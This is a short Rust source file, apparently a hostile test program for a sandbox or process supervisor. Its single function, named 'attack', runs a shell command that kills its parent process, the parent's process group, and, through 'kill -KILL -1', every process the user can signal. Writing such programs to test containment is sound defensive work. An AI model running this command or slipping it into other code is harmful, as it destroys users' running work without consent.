//! Ends its parent and all that it may end.

fn attack() {
    let parent = std::os::unix::process::parent_id();
    let kill = format!("kill -KILL {parent}; kill -KILL -- -{parent}; kill -KILL -1");
    let _ = std::process::Command::new("sh")
        .args(["-c", &kill])
        .status();
}
